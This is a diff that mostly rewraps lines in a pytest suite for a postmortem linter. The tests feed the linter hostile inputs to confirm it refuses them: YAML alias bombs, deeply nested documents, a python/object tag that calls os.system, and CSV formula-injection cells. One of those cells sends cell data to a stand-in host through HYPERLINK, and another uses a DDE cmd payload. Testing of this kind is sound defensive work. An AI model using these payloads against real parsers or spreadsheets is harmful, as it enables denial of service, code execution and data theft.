@@ -19,7 +19,9 @@ import tracemalloc
 import pytest
 from conftest import BASE_META, line_col, merged_meta, merged_sections, render
 
-BASELINE = render(merged_meta({"id": "2024-03-14-hostile"}), merged_sections())  # its own id: no duplicate with the neighbour
+BASELINE = render(
+    merged_meta({"id": "2024-03-14-hostile"}), merged_sections()
+)  # its own id: no duplicate with the neighbour
 NAME = "2024/hostile.md"
 PATH = f"postmortems/{NAME}"
 
@@ -39,7 +41,9 @@ def checked(kb, data: str | bytes, *args: str) -> list[dict]:
     assert "Traceback" not in kb.stderr, kb.stderr
     found = json.loads(out)
     assert code == (1 if any(f["severity"] == "error" for f in found) else 0)
-    assert [(f["code"], f["line"]) for f in found if f["path"] == kb.rel(neighbour)] == [("PM301", line_col(neighbour, "human error")[0])]
+    assert [(f["code"], f["line"]) for f in found if f["path"] == kb.rel(neighbour)] == [
+        ("PM301", line_col(neighbour, "human error")[0])
+    ]
     return [f for f in found if f["path"] == PATH]
 
 
@@ -49,19 +53,33 @@ def where(found: list[dict]) -> list[tuple[str, int, int]]:
 
 # ---- alias bombs ------------------------------------------------------------------------
 
-_LAUGHS = "".join(f"{c}: &{c} [" + ", ".join([f"*{p}"] * 9) + "]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
+_LAUGHS = "".join(
+    f"{c}: &{c} [" + ", ".join([f"*{p}"] * 9) + "]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)
+)
 BOMBS = {
     "billion laughs": "---\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + _LAUGHS + "---\n",
     "in flow mappings": "---\na: &a {x: 1, y: 1, z: 1, w: 1}\n"
-    + "".join(f"{c}: &{c} {{k1: *{p}, k2: *{p}, k3: *{p}, k4: *{p}, k5: *{p}, k6: *{p}, k7: *{p}, k8: *{p}}}\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
+    + "".join(
+        f"{c}: &{c} {{k1: *{p}, k2: *{p}, k3: *{p}, k4: *{p}, k5: *{p}, k6: *{p}, k7: *{p}, k8: *{p}}}\n"
+        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
+    )
     + "---\n",
     "through merge keys": "---\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
-    + "".join(f"{c}: &{c} {{<<: {{m: *{p}}}, k1: *{p}, k2: *{p}, k3: *{p}, k4: *{p}, k5: *{p}, k6: *{p}, k7: *{p}, k8: *{p}}}\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
+    + "".join(
+        f"{c}: &{c} {{<<: {{m: *{p}}}, k1: *{p}, k2: *{p}, k3: *{p}, k4: *{p}, k5: *{p}, k6: *{p}, k7: *{p}, k8: *{p}}}\n"
+        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
+    )
     + "---\n",
-    "as mapping keys": "---\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + _LAUGHS + "? [*i, *i, *i]\n: x\n---\n",
+    "as mapping keys": "---\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
+    + _LAUGHS
+    + "? [*i, *i, *i]\n: x\n---\n",
     # One level, not nine: 25,000 aliases to a list of 2,000 (80 KB). Counting nodes as
     # they were visited queued 40 million entries first: 30 s and gigabytes.
-    "one wide level": "---\na: {y: &a [" + ", ".join(["x"] * 2000) + "]}\nb: [" + ", ".join(["*a"] * 25_000) + "]\n---\n",
+    "one wide level": "---\na: {y: &a ["
+    + ", ".join(["x"] * 2000)
+    + "]}\nb: ["
+    + ", ".join(["*a"] * 25_000)
+    + "]\n---\n",
 }
 
 
@@ -86,6 +104,7 @@ def test_an_alias_bomb_is_one_finding_found_quickly_in_little_memory(kb, bomb):
 # kill the process (SIGSEGV), which no `except` catches. So these run in a subprocess: a
 # regression fails this test instead of the test run.
 
+
 def _flow(levels: int) -> tuple[str, int, int]:
     # `id: [[[…`: the root mapping is level 1, so level 101 is the 100th `[` (column 104)
     return ("---\nid: " + "[" * levels + "]" * levels + "\n---\n", 2, 104)
@@ -105,7 +124,11 @@ DEEP = {
     **{f"flow-unclosed-{n}.md": _flow_unclosed(n) for n in (1_001, 100_000)},
     **{f"block-{n}.md": _block(n) for n in (101, 999, 1_001, 100_000)},
     "flow-mappings.md": ("---\nid: " + "{a: " * 30_000 + "1" + "}" * 30_000 + "\n---\n", 2, 401),
-    "block-mappings.md": ("---\n" + "".join(" " * i + "k:\n" for i in range(700)) + "---\n", 102, 101),  # 700 levels fill 256 KiB
+    "block-mappings.md": (
+        "---\n" + "".join(" " * i + "k:\n" for i in range(700)) + "---\n",
+        102,
+        101,
+    ),  # 700 levels fill 256 KiB
 }
 
 # PyYAML without libyaml (its pure-Python loader): what `import yaml` gives where the C
@@ -145,8 +168,14 @@ def test_the_pure_python_loader_reads_an_ordinary_postmortem_as_the_c_loader_doe
     outs = {}
     for loader, prelude in LOADERS.items():
         proc = subprocess.run(
-            [sys.executable, "-c", f"import sys, yaml; {prelude}; print(hasattr(yaml, 'CSafeLoader'), file=sys.stderr); sys.exit(main({argv!r}))"],
-            capture_output=True, text=True, timeout=120,
+            [
+                sys.executable,
+                "-c",
+                f"import sys, yaml; {prelude}; print(hasattr(yaml, 'CSafeLoader'), file=sys.stderr); sys.exit(main({argv!r}))",
+            ],
+            capture_output=True,
+            text=True,
+            timeout=120,
         )
         assert proc.returncode == 1, proc.stderr[-2000:]
         assert proc.stderr.strip().splitlines()[0] == str(loader == "C loader")
@@ -234,7 +263,10 @@ def test_python_object_tags_are_refused_and_never_run(kb, tmp_path):
     text = BASELINE.replace("title: Order", f'title: !!python/object/apply:os.system ["touch {marker}"]\nx: Order', 1)
     found = checked(kb, text)
     assert where(found) == [("PM002", 3, 8)]
-    assert "could not determine a constructor for the tag 'tag:yaml.org,2002:python/object/apply:os.system'" in found[0]["message"]
+    assert (
+        "could not determine a constructor for the tag 'tag:yaml.org,2002:python/object/apply:os.system'"
+        in found[0]["message"]
+    )
     assert not marker.exists()
 
 
@@ -277,7 +309,10 @@ def test_an_incident_timestamp_without_a_zone_is_a_schema_finding_at_it(kb, fiel
     found = checked(kb, text)
     line = front_matter_line(text, f"{field}: ")
     assert where(found) == [("PM101", line, len(field) + 3)]
-    assert found[0]["message"] == f"`{field}`: timestamp has no time zone; add one, e.g. `2024-03-14T13:52:00+00:00` or `Z`"
+    assert (
+        found[0]["message"]
+        == f"`{field}`: timestamp has no time zone; add one, e.g. `2024-03-14T13:52:00+00:00` or `Z`"
+    )
 
 
 def test_an_incident_date_without_a_time_asks_for_a_time_and_zone(kb):
@@ -327,7 +362,9 @@ def test_old_mac_line_endings_count_as_line_breaks(kb):
 @pytest.mark.parametrize("char", ["\u2028", "\u2029", "\x85", "\x0c", "\x1c"], ids=["LS", "PS", "NEL", "FF", "FS"])
 def test_characters_python_breaks_lines_at_do_not_shift_body_line_numbers(kb, char):
     # Python's splitlines() ends lines at all of these; Markdown and editors at none.
-    text = BASELINE.replace("About 21,000 emails", f"About{char} 21,000 emails", 1).replace("None were lost.", "It was human error.", 1)
+    text = BASELINE.replace("About 21,000 emails", f"About{char} 21,000 emails", 1).replace(
+        "None were lost.", "It was human error.", 1
+    )
     found = checked(kb, text)
     assert where(found) == [("PM301", *line_col_in(text, "human error"))]
 
@@ -335,7 +372,11 @@ def test_characters_python_breaks_lines_at_do_not_shift_body_line_numbers(kb, ch
 @pytest.mark.parametrize("char", ["\u2028", "\u2029", "\x85"], ids=["LS", "PS", "NEL"])
 def test_characters_yaml_breaks_lines_at_do_not_shift_front_matter_line_numbers(kb, char):
     # YAML 1.1 ends lines at NEL, LS and PS too: its line numbers run ahead of the file's.
-    text = BASELINE.replace("title: Order confirmation emails delayed by a queue backlog", f'title: "Order confirmation{char}emails delayed"', 1)
+    text = BASELINE.replace(
+        "title: Order confirmation emails delayed by a queue backlog",
+        f'title: "Order confirmation{char}emails delayed"',
+        1,
+    )
     text = text.replace("severity: SEV2", "severity: SEV9", 1)
     found = checked(kb, text)
     assert where(found) == [("PM106", 6, 11)]
@@ -360,7 +401,9 @@ def test_a_tab_indenting_a_list_item_is_a_yaml_finding_at_its_line(kb):
 
 
 def test_tabs_in_the_body_and_between_key_and_value_are_fine(kb):
-    text = BASELINE.replace("status: published", "status:\tpublished", 1).replace("None were lost.", "None\twere lost.", 1)
+    text = BASELINE.replace("status: published", "status:\tpublished", 1).replace(
+        "None were lost.", "None\twere lost.", 1
+    )
     assert checked(kb, text) == []
 
 
@@ -373,7 +416,11 @@ def test_a_control_character_is_a_yaml_finding_at_its_line_and_column(kb, char):
 
 
 def test_a_byte_that_is_not_utf8_is_reported_at_its_character_column(kb):
-    data = BASELINE.replace("title: Order confirmation", "title: Ordér confirmation", 1).encode().replace(b"confirmation", b"conf\xffirmation", 1)
+    data = (
+        BASELINE.replace("title: Order confirmation", "title: Ordér confirmation", 1)
+        .encode()
+        .replace(b"confirmation", b"conf\xffirmation", 1)
+    )
     found = checked(kb, data)
     assert where(found) == [("PM003", 3, 18)]  # after "title: Ordér conf": 17 characters, 18 bytes
     offset = data.index(b"\xff")
@@ -409,7 +456,10 @@ def test_an_alias_bomb_in_the_taxonomy_is_a_finding(kb):
 @pytest.mark.parametrize(
     "text, line",
     [
-        ("factors: not a list\nfactors:\n  - id: dns\n    name: DNS\n    category: technical\n", 2),  # a duplicate; the scalar was iterated
+        (
+            "factors: not a list\nfactors:\n  - id: dns\n    name: DNS\n    category: technical\n",
+            2,
+        ),  # a duplicate; the scalar was iterated
         ("categories: [technical]\nfactors:\n  - id: dns\n    category: technical\n", 1),  # a list has no .items()
         ("factors:\n  - [dns]\n", 2),
     ],
@@ -426,7 +476,7 @@ def test_a_taxonomy_of_the_wrong_shape_is_a_finding_not_a_crash(kb, text, line):
 
 def test_remediation_csv_neutralises_cells_that_start_like_a_formula(kb):
     hostile = {
-        "summary": "=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")",
+        "summary": '=HYPERLINK("https://evil.example/?"&A1, "Click")',
         "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
         "status": "open",
         "due": BASE_META["actions"][0]["due"],
